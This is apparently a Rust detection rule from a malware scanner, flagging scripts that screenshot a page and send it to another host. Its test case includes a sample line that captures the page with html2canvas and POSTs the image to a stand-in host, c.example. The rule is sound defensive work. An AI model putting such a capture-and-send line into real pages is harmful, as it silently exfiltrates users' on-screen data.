//! `screen-sent`.

use crate::facts::Atom;
use crate::signals::{Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "screen-sent",
    description: "The script takes a picture of this page and sends it to another host.",
    severity: Severity::Medium,
    classes: ClassSet::MALWARE,
    needs: &[one(&[Atom::PictureSentAbroad]), one(&[Atom::Screen])],
    within: 3000,
    only_if: None,
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "html2canvas(document.body).then(c=>fetch('https://c.example/s',{method:'POST',body:c.toDataURL()}))",
        ],
        without: &["html2canvas(el).then(c=>{a.href=c.toDataURL();a.click()})"],
    },
};
